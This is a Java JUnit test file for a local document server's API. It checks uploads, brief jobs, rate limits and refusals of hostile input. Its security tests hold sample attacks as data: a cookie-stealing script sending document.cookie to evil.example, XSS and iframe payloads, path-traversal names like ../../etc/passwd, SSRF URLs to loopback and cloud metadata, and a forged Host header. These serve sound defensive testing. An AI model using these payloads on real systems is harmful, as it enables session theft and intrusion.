package io.dossier.server;

import io.dossier.testing.FakeEmbedder;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.sun.net.httpserver.HttpServer;
import io.dossier.store.DocumentStore;
import java.io.BufferedReader;
import java.io.InputStreamReader;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.http.HttpRequest;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The API against the real server on loopback, with a fake embedder (no model). */
class ApiTest {
  @TempDir
  Path dir;

  private final List<AutoCloseable> open = new ArrayList<>();

  @AfterEach
  void closeAll() throws Exception {
    for (int i = open.size() - 1; i >= 0; i--) {
      open.get(i).close();
    }
  }

  Http start(ServerConfig config) {
    return start(config, "data", DocumentStore.Options.defaults());
  }

  Http start(ServerConfig config, String data, DocumentStore.Options options) {
    DocumentStore store = DocumentStore.open(dir.resolve(data), new FakeEmbedder(), options);
    open.add(store);
    DossierServer server = new DossierServer(store, config).start();
    open.add(server);
    return new Http(server.uri());
  }

  Http start() {
    return start(ServerConfig.loopback(0));
  }

  static byte[] html(String title, String... paragraphs) {
    StringBuilder b = new StringBuilder("<!DOCTYPE html><html><head><title>" + title + "</title></head><body>"
        + "<nav><a href=/>Home</a> <a href=/world>World</a></nav><article><h1>" + title + "</h1>");
    for (String p : paragraphs) {
      b.append("<p>").append(p).append("</p>");
    }
    return b.append("</article></body></html>").toString().getBytes(StandardCharsets.UTF_8);
  }

  static byte[] article(int n) {
    return html("City centre closes to cars " + n,
        "The council voted on Tuesday to close the old town of district " + n + " to cars from next spring, officials said.",
        "Shop owners worry that customers will not come back without parking near the market square.",
        "Cycling groups welcomed the decision and said the streets would be much safer for children.",
        "\"We will measure the air every month,\" said the mayor, who promised a review after one year.");
  }

  @Test
  void uploadListFetchAndDeleteADocument() throws Exception {
    Http h = start();
    Http.Reply added = h.upload("city.html", article(1));
    assertThat(added.status()).isEqualTo(201);
    assertThat(added.json().get("id").asText()).isEqualTo("city");
    assertThat(added.headers().firstValue("Location")).contains("/api/documents/city");

    Http.Reply list = h.get("/api/documents");
    assertThat(list.status()).isEqualTo(200);
    JsonNode d = list.json().get(0);
    assertThat(d.get("id").asText()).isEqualTo("city");
    assertThat(d.get("title").asText()).contains("City centre closes to cars");
    assertThat(d.get("source").asText()).isEqualTo("city.html");
    assertThat(d.has("published")).isTrue();
    assertThat(d.get("flags").isArray()).isTrue();
    assertThat(d.get("error").isNull()).isTrue();

    Http.Reply doc = h.get("/api/documents/city");
    assertThat(doc.json().get("text").asText()).contains("close the old town");

    assertThat(h.upload("again.html", article(1)).json().get("documents").get(0).get("duplicate").asBoolean()).isTrue();
    assertThat(h.delete("/api/documents/city").status()).isEqualTo(204);
    Http.Reply gone = h.delete("/api/documents/city");
    assertThat(gone.status()).isEqualTo(404);
    assertThat(gone.json().get("error").asText()).contains("city");
    assertThat(h.get("/api/documents/city").status()).isEqualTo(404);
    assertThat(h.get("/api/documents").json().size()).isZero();
  }

  @Test
  void uploadsPastTheServersBudgetAreTurnedAwayWith503AndNothingIsLeftStaged() throws Exception {
    DocumentStore store = DocumentStore.open(dir.resolve("budget"), new FakeEmbedder(), DocumentStore.Options.defaults());
    open.add(store);
    UploadBudget budget = new UploadBudget(1 << 20, 300);
    DossierServer server = new DossierServer(store, ServerConfig.loopback(0).withMaxUpload(1 << 20), budget).start();
    open.add(server);
    Http h = new Http(server.uri());
    assertThat(budget.take(1 << 20)).isTrue(); // another upload holds the whole budget
    Http.Reply busy = h.upload("city.html", article(1));
    assertThat(busy.status()).isEqualTo(503);
    assertThat(busy.headers().firstValue("Retry-After")).contains("5");
    assertThat(busy.json().get("error").asText()).contains("busy with other large uploads");
    budget.give(1 << 20);
    assertThat(h.upload("city.html", article(1)).status()).isEqualTo(201);
    // an upload waits a while for room before it is turned away
    assertThat(budget.take(1 << 20)).isTrue();
    Thread giver = new Thread(() -> {
      try {
        Thread.sleep(100);
      } catch (InterruptedException ignored) {
        Thread.currentThread().interrupt();
      }
      budget.give(1 << 20);
    });
    giver.start();
    assertThat(h.upload("city2.html", article(2)).status()).isEqualTo(201);
    giver.join();
    assertThat(budget.used()).isZero();
    try (var left = java.nio.file.Files.list(dir.resolve("budget").resolve("tmp"))) {
      assertThat(left).isEmpty();
    }
  }

  @Test
  void aNameOverTheFileSystemsLimitIs400AndNamesNoPath() throws Exception {
    Http h = start();
    Http.Reply r = h.upload("\u00e9".repeat(200) + ".html", article(1));
    assertThat(r.status()).isEqualTo(400);
    assertThat(r.json().get("error").asText()).contains("405 bytes").doesNotContain("/");
    assertThat(h.upload("a".repeat(251) + ".html", article(1)).status()).isEqualTo(400);
    assertThat(h.upload("a".repeat(250) + ".txt", article(2)).status()).isEqualTo(201);
  }

  @Test
  void aBriefJobReportsItsProgressAndGivesTheBriefWhenDone() throws Exception {
    Http h = start();
    for (int i = 1; i <= 3; i++) {
      assertThat(h.upload("city" + i + ".html", article(i)).status()).isEqualTo(201);
    }
    Http.Reply started = h.postJson("/api/brief/jobs", "{\"question\": \"Why is the old town closing to cars?\"}");
    assertThat(started.status()).isEqualTo(202);
    String id = started.json().get("id").asText();
    assertThat(started.headers().firstValue("Location")).contains("/api/brief/jobs/" + id);
    JsonNode s = started.json();
    long deadline = System.nanoTime() + java.util.concurrent.TimeUnit.SECONDS.toNanos(60);
    while (!s.get("state").asText().equals("done") && System.nanoTime() < deadline) {
      assertThat(s.get("state").asText()).isIn("queued", "running");
      Thread.sleep(50);
      s = h.get("/api/brief/jobs/" + id).json();
    }
    assertThat(s.get("state").asText()).isEqualTo("done");
    assertThat(s.get("stages").asInt()).isEqualTo(7);
    assertThat(s.get("stageIndex").asInt()).isEqualTo(7);
    assertThat(s.get("stage").asText()).isEqualTo("actors");
    Http.Reply b = h.get("/api/brief/jobs/" + id + "/brief");
    assertThat(b.status()).isEqualTo(200);
    io.dossier.testing.BriefInvariants.matchesSchema(b.json());
    assertThat(b.json().get("question").asText()).isEqualTo("Why is the old town closing to cars?");
    assertThat(h.get("/api/brief/jobs/no-such-job").status()).isEqualTo(404);
  }

  @Test
  void aRunningJobTellsAboutHowLongTheWholeBriefHasLeft() throws Exception {
    BriefJobs jobs = new BriefJobs();
    java.util.concurrent.CountDownLatch told = new java.util.concurrent.CountDownLatch(1);
    java.util.concurrent.CountDownLatch release = new java.util.concurrent.CountDownLatch(1);
    BriefJobs.Job job = jobs.submit(p -> {
      p.plan(8);
      p.stage("read", 10);
      p.advance(10);
      p.stage("clean", 10);
      try {
        Thread.sleep(50);
        p.advance(10);
        p.stage("question", 1);
        told.countDown();
        release.await();
      } catch (InterruptedException e) {
        Thread.currentThread().interrupt();
      }
      return null;
    });
    assertThat(told.await(10, java.util.concurrent.TimeUnit.SECONDS)).isTrue();
    BriefJobs.Snapshot s = job.snapshot();
    assertThat(s.stage()).isEqualTo("question");
    // read and clean are about a sixth of a brief: the rest is about five times what they took
    assertThat(s.totalEtaMillis()).isNotNull().isGreaterThanOrEqualTo(4L * 50);
    release.countDown();
    jobs.close();
  }

  @Test
  void aCancelledJobStopsAndSaysSo() throws Exception {
    Http h = start();
    assertThat(h.upload("city.html", article(1)).status()).isEqualTo(201);
    // the job waits behind its queue's single worker: block the worker with a job of our own first
    BriefJobs jobs = new BriefJobs();
    java.util.concurrent.CountDownLatch release = new java.util.concurrent.CountDownLatch(1);
    jobs.submit(p -> {
      try {
        release.await();
      } catch (InterruptedException e) {
        Thread.currentThread().interrupt();
      }
      return null;
    });
    BriefJobs.Job queued = jobs.submit(p -> {
      p.stage("read", 1);
      return null;
    });
    assertThat(jobs.cancel(queued.id)).isTrue();
    release.countDown();
    long deadline = System.nanoTime() + java.util.concurrent.TimeUnit.SECONDS.toNanos(10);
    while (queued.state() != BriefJobs.State.CANCELLED && System.nanoTime() < deadline) {
      Thread.sleep(20);
    }
    assertThat(queued.state()).isEqualTo(BriefJobs.State.CANCELLED);
    // a running one stops at its next progress call
    BriefJobs.Job running = jobs.submit(p -> {
      for (long i = 0; ; i++) {
        p.advance(i);
        Thread.onSpinWait();
      }
    });
    while (running.state() != BriefJobs.State.RUNNING && System.nanoTime() < deadline) {
      Thread.sleep(5);
    }
    jobs.cancel(running.id);
    while (running.state() != BriefJobs.State.CANCELLED && System.nanoTime() < deadline) {
      Thread.sleep(20);
    }
    assertThat(running.state()).isEqualTo(BriefJobs.State.CANCELLED);
    assertThat(running.snapshot().error()).isEqualTo("cancelled");
    jobs.close();
    // and through the API: a cancelled job's brief is 409
    Http.Reply started = h.postJson("/api/brief/jobs", "{}");
    String id = started.json().get("id").asText();
    assertThat(h.delete("/api/brief/jobs/" + id).status()).isEqualTo(202);
    JsonNode s = h.get("/api/brief/jobs/" + id).json();
    while (s.get("state").asText().matches("queued|running") && System.nanoTime() < deadline) {
      Thread.sleep(20);
      s = h.get("/api/brief/jobs/" + id).json();
    }
    assertThat(s.get("state").asText()).isIn("cancelled", "done"); // a fast brief may finish first
    assertThat(h.get("/api/brief/jobs/" + id + "/brief").status()).isIn(409, 200);
  }

  @Test
  void aUrlIsFetchedFromALoopbackServer() throws Exception {
    HttpServer site = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
    java.util.concurrent.atomic.AtomicInteger hits = new java.util.concurrent.atomic.AtomicInteger();
    site.createContext("/news/story.html", ex -> {
      hits.incrementAndGet();
      byte[] body = article(7);
      ex.getResponseHeaders().add("Content-Type", "text/html; charset=utf-8");
      ex.sendResponseHeaders(200, body.length);
      try (OutputStream o = ex.getResponseBody()) {
        o.write(body);
      }
    });
    site.start();
    try {
      String url = "http://127.0.0.1:" + site.getAddress().getPort() + "/news/story.html";
      // by default a URL may not reach inside the machine: refused before any request, nothing stored
      Http strict = start();
      for (String inside : List.of(url, "http://2130706433:" + site.getAddress().getPort() + "/news/story.html",
          "http://[::ffff:127.0.0.1]:" + site.getAddress().getPort() + "/news/story.html", "http://169.254.169.254/latest")) {
        Http.Reply refused = strict.postJson("/api/documents", Http.JSON.writeValueAsString(Map.of("url", inside)));
        assertThat(refused.status()).as(inside).isEqualTo(400);
        assertThat(refused.json().get("error").asText()).as(inside).contains("refused to fetch");
      }
      assertThat(hits.get()).isZero();
      assertThat(strict.get("/api/documents").json().size()).isZero();

      Http h = start(ServerConfig.loopback(0), "data2",
          DocumentStore.Options.defaults().withLimits(io.dossier.ingest.Limits.DEFAULT.withPrivateUrls(true)));
      Http.Reply r = h.postJson("/api/documents", Http.JSON.writeValueAsString(Map.of("url", url)));
      assertThat(r.status()).as(r.body()).isEqualTo(201);
      assertThat(r.json().get("id").asText()).isEqualTo("story");
      JsonNode listed = h.get("/api/documents").json().get(0);
      assertThat(listed.get("source").asText()).isEqualTo(url);
      assertThat(listed.get("error").isNull()).isTrue();
      // a URL that fails is stored with its error, so that the collection shows it
      Http.Reply missing = h.postJson("/api/documents", "{\"url\": \"http://127.0.0.1:" + site.getAddress().getPort() + "/nope.html\"}");
      assertThat(missing.status()).isEqualTo(201);
      assertThat(missing.json().get("documents").get(0).get("error").asText()).contains("404");
      assertThat(h.postJson("/api/documents", "{\"url\": \"file:///etc/passwd\"}").status()).isEqualTo(400);
      assertThat(h.postJson("/api/documents", "{\"link\": 3}").status()).isEqualTo(400);
    } finally {
      site.stop(0);
    }
  }

  @Test
  void theBriefFollowsTheContract() throws Exception {
    Http h = start();
    for (int i = 1; i <= 4; i++) {
      assertThat(h.upload("story" + i + ".html", article(i)).status()).isEqualTo(201);
    }
    Http.Reply r = h.postJson("/api/brief", "{\"question\": \"Why is the old town closing to cars?\"}");
    assertThat(r.status()).as(r.body()).isEqualTo(200);
    JsonNode b = r.json();
    io.dossier.testing.BriefInvariants.matchesSchema(b);
    Http.Reply schema = h.get("/api/brief.schema.json");
    assertThat(schema.status()).isEqualTo(200);
    assertThat(schema.headers().firstValue("Content-Type").orElse("")).startsWith("application/schema+json");
    assertThat(schema.json().get("$id").asText()).isEqualTo(io.dossier.render.BriefSchema.ID);
    assertThat(h.get("/api/openapi.json").body()).contains("/api/brief.schema.json");
    assertThat(b.get("schema").asText()).isEqualTo("dossier.brief/1");
    assertThat(b.get("questionInferred").asBoolean()).isFalse();
    for (String k : List.of("documents", "summary", "keyPoints", "counterPoints", "quotes", "timeline", "actors", "disputes")) {
      assertThat(b.get(k).isArray()).as(k).isTrue();
    }
    assertThat(b.get("documents")).hasSize(4);
    Map<String, String> texts = new HashMap<>();
    for (JsonNode d : b.get("documents")) {
      texts.put(d.get("id").asText(), d.get("text").asText());
    }
    List<JsonNode> spans = new ArrayList<>();
    b.get("summary").forEach(spans::add);
    b.get("keyPoints").forEach(p -> p.get("evidence").forEach(spans::add));
    b.get("quotes").forEach(spans::add);
    assertThat(spans).isNotEmpty();
    for (JsonNode s : spans) {
      String text = texts.get(s.get("doc").asText());
      assertThat(text.substring(s.get("start").asInt(), s.get("end").asInt())).isEqualTo(s.get("text").asText());
    }
    checkWithSharedTool(r.body());

    // a subset, and an inferred question
    Http.Reply some = h.postJson("/api/brief", "{\"documents\": [\"story1\", \"story2\"]}");
    assertThat(some.status()).as(some.body()).isEqualTo(200);
    assertThat(some.json().get("documents")).hasSize(2);
    assertThat(some.json().get("questionInferred").asBoolean()).isTrue();

    Http.Reply md = h.postJson("/api/brief?format=md", "{\"question\": \"Why is the old town closing to cars?\"}");
    assertThat(md.status()).isEqualTo(200);
    assertThat(md.headers().firstValue("Content-Type").orElse("")).startsWith("text/markdown");
    assertThat(md.body()).startsWith("# Why is the old town closing to cars?");
    Http.Reply html = h.postJson("/api/brief?format=html", "{}");
    assertThat(html.body()).startsWith("<!DOCTYPE html>");
  }

  private void checkWithSharedTool(String json) throws Exception {
    Path tool = Path.of(System.getProperty("dossier.shared", "../../shared"), "tools", "check_brief.py");
    if (!Files.isRegularFile(tool)) {
      System.err.println("skipping check_brief.py: " + tool + " is absent");
      return;
    }
    Path f = dir.resolve("brief.json");
    Files.writeString(f, json);
    Process p;
    try {
      p = new ProcessBuilder("python3", tool.toString(), f.toString()).redirectErrorStream(true).start();
    } catch (java.io.IOException e) {
      System.err.println("skipping check_brief.py: no python3 (" + e.getMessage() + ")");
      return;
    }
    String out = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
    assertThat(p.waitFor(60, TimeUnit.SECONDS)).isTrue();
    assertThat(p.exitValue()).as(out).isZero();
  }

  @Test
  void badRequestsGetJsonErrorsWithFittingStatuses() throws Exception {
    Http h = start();
    Http.Reply empty = h.postJson("/api/brief", "{}");
    assertThat(empty.status()).isEqualTo(400);
    assertThat(empty.json().get("error").asText()).contains("add some");
    h.upload("a.html", article(1));
    assertThat(h.postJson("/api/brief", "{not json").status()).isEqualTo(400);
    assertThat(h.postJson("/api/brief", "{\"question\": 5}").status()).isEqualTo(400);
    assertThat(h.postJson("/api/brief", "{\"documents\": \"a\"}").status()).isEqualTo(400);
    Http.Reply unknown = h.postJson("/api/brief", "{\"documents\": [\"nope\"]}");
    assertThat(unknown.status()).isEqualTo(404);
    assertThat(unknown.json().get("error").asText()).contains("nope");
    assertThat(h.postJson("/api/brief?format=pdf", "{}").status()).isEqualTo(400);
    Http.Reply noName = h.send(HttpRequest.newBuilder(h.base.resolve("/api/documents"))
        .header("Content-Type", "text/plain").POST(HttpRequest.BodyPublishers.ofString("hello")));
    assertThat(noName.status()).isEqualTo(400);
    assertThat(noName.json().get("error").asText()).contains("name=");
    assertThat(h.upload("empty.txt", new byte[0]).status()).isEqualTo(400);
    Http.Reply nowhere = h.get("/api/nothing-here");
    assertThat(nowhere.status()).isEqualTo(404);
    assertThat(nowhere.json().get("error").asText()).contains("/api/nothing-here");
  }

  @Test
  void pathTraversalInNamesIsRefused() throws Exception {
    Http h = start();
    for (String bad : List.of("../../etc/passwd", "..\\..\\boot.ini", "a/b.html", "..", "/etc/shadow", "x\u0000.html")) {
      Http.Reply r = h.upload(bad, article(1));
      assertThat(r.status()).as(bad).isEqualTo(400);
      assertThat(r.json().get("error").asText()).as(bad).isNotBlank();
    }
    // already percent-encoded by a client: the server decodes it once and still sees "../"
    Http.Reply encoded = h.send(HttpRequest.newBuilder(h.base.resolve("/api/documents?name=%2e%2e%2fx.html"))
        .POST(HttpRequest.BodyPublishers.ofByteArray(article(1))));
    assertThat(encoded.status()).isEqualTo(400);
    assertThat(h.get("/api/documents").json().size()).isZero();
    try (var files = Files.walk(dir)) {
      assertThat(files.filter(p -> p.getFileName().toString().equals("passwd")
          || p.getFileName().toString().equals("x.html"))).isEmpty();
    }
  }

  @Test
  void uploadsOverTheLimitGet413() throws Exception {
    Http h = start(ServerConfig.loopback(0).withMaxUpload(20_000));
    byte[] big = new byte[50_000];
    java.util.Arrays.fill(big, (byte) 'a');
    Http.Reply r = h.upload("big.txt", big);
    assertThat(r.status()).isEqualTo(413);
    assertThat(r.json().get("error").asText()).contains("upload limit");
    assertThat(h.upload("small.html", article(1)).status()).isEqualTo(201);
    // a JSON body over its own limit too
    String hugeUrl = "{\"url\": \"http://x/" + "a".repeat(70_000) + "\"}";
    assertThat(h.postJson("/api/documents", hugeUrl).status()).isEqualTo(413);
  }

  @Test
  void aClientOverTheRateLimitGets429() throws Exception {
    Http h = start(ServerConfig.loopback(0).withRate(1, 3));
    int limited = 0;
    for (int i = 0; i < 8; i++) {
      Http.Reply r = h.get("/api/documents");
      if (r.status() == 429) {
        limited++;
        assertThat(r.json().get("error").asText()).contains("too many requests");
        assertThat(r.headers().firstValue("Retry-After")).isPresent();
      } else {
        assertThat(r.status()).isEqualTo(200);
      }
    }
    assertThat(limited).isGreaterThanOrEqualTo(4);
    // the page itself is not rate limited
    assertThat(h.get("/").status()).isEqualTo(200);
  }

  @Test
  void htmlAndScriptInAPageComeBackEscapedInTheHtmlBrief() throws Exception {
    Http h = start();
    byte[] evil = html("Closing the town <b>centre</b> &lt;script&gt;alert('title')&lt;/script&gt;",
        "The council said &lt;script&gt;alert('xss')&lt;/script&gt; that the old town will close to cars next spring for safety.",
        "Residents wrote &lt;img src=x onerror=alert(1)&gt; on the petition because the streets would be safer for children.",
        "<script>alert('real script')</script>Shop owners worry that customers will not come back without parking.");
    assertThat(h.upload("evil.html", evil).status()).isEqualTo(201);
    byte[] dump = ("Why the town closes to cars\n\n"
        + "A reader posted <script>document.location='http://evil.example/'+document.cookie</script> in the comments, "
        + "saying the old town will close to cars because the air is bad.\n\n"
        + "Officials said the <iframe src=\"http://evil.example\"></iframe> plan would make the streets safer for children.\n")
        .getBytes(StandardCharsets.UTF_8);
    assertThat(h.upload("dump.txt", dump).status()).isEqualTo(201);
    h.upload("city.html", article(3));

    String question = "Why will the old town close to cars? <script>alert('q')</script>";
    Http.Reply json = h.postJson("/api/brief", Http.JSON.writeValueAsString(Map.of("question", question)));
    assertThat(json.status()).as(json.body()).isEqualTo(200);
    assertThat(json.body()).contains("<script>document.location"); // the text is kept verbatim in JSON

    Http.Reply r = h.postJson("/api/brief?format=html", Http.JSON.writeValueAsString(Map.of("question", question)));
    assertThat(r.status()).isEqualTo(200);
    String page = r.body().toLowerCase(java.util.Locale.ROOT);
    assertThat(page).doesNotContain("<script").doesNotContain("<iframe").doesNotContain("<img");
    assertThat(page).contains("&lt;script&gt;");
    assertThat(r.headers().firstValue("Content-Security-Policy").orElse("")).contains("default-src 'none'");
    Http.Reply md = h.postJson("/api/brief?format=md", Http.JSON.writeValueAsString(Map.of("question", question)));
    assertThat(md.body().toLowerCase(java.util.Locale.ROOT)).doesNotContain("<script").doesNotContain("<iframe");
  }

  @Test
  void severalClientsAddingAtOnceLoseNothing() throws Exception {
    Http h = start(ServerConfig.loopback(0).withRate(0, 1));
    ExecutorService pool = Executors.newFixedThreadPool(5);
    List<Future<List<String>>> clients = new ArrayList<>();
    for (int c = 0; c < 5; c++) {
      int client = c;
      clients.add(pool.submit(() -> {
        Http mine = new Http(h.base);
        List<String> ids = new ArrayList<>();
        for (int i = 0; i < 12; i++) {
          Http.Reply r = mine.upload("same-name.html", article(client * 100 + i));
          assertThat(r.status()).as(r.body()).isEqualTo(201);
          ids.add(r.json().get("id").asText());
        }
        return ids;
      }));
    }
    Set<String> all = new HashSet<>();
    for (Future<List<String>> f : clients) {
      all.addAll(f.get(120, TimeUnit.SECONDS));
    }
    pool.shutdown();
    assertThat(all).hasSize(60);
    JsonNode list = h.get("/api/documents").json();
    Set<String> listed = new HashSet<>();
    list.forEach(d -> listed.add(d.get("id").asText()));
    assertThat(listed).isEqualTo(all);
  }

  @Test
  void thePageAndTheApiDescriptionAreServed() throws Exception {
    Http h = start();
    Http.Reply page = h.get("/");
    assertThat(page.status()).isEqualTo(200);
    assertThat(page.body()).contains("<title>Dossier</title>").contains("app.js");
    assertThat(page.headers().firstValue("Content-Security-Policy").orElse("")).contains("script-src 'self'");
    assertThat(h.get("/app.js").body()).contains("textContent");
    Http.Reply api = h.get("/api/openapi.json");
    assertThat(api.status()).isEqualTo(200);
    JsonNode doc = api.json();
    assertThat(doc.get("openapi").asText()).startsWith("3.");
    assertThat(doc.get("paths").has("/api/documents")).isTrue();
    assertThat(doc.get("paths").has("/api/brief")).isTrue();
    assertThat(h.get("/api/status").json().get("documents").asInt()).isZero();
  }

  @Test
  void otherSitesAndOtherHostNamesAreRefused() throws Exception {
    Http h = start();
    Http.Reply cross = h.send(HttpRequest.newBuilder(h.base.resolve("/api/documents?name=a.html"))
        .header("Origin", "http://evil.example").POST(HttpRequest.BodyPublishers.ofByteArray(article(1))));
    assertThat(cross.status()).isEqualTo(403);
    assertThat(h.get("/api/documents").json().size()).isZero();
    // DNS rebinding: a request that names another host is refused (raw socket: HttpClient fixes the Host header)
    try (Socket s = new Socket(InetAddress.getLoopbackAddress(), h.base.getPort())) {
      s.getOutputStream().write(("GET /api/documents HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n")
          .getBytes(StandardCharsets.US_ASCII));
      String status = new BufferedReader(new InputStreamReader(s.getInputStream(), StandardCharsets.US_ASCII)).readLine();
      assertThat(status).contains("403");
    }
    Assumptions.assumeTrue(true);
  }
}
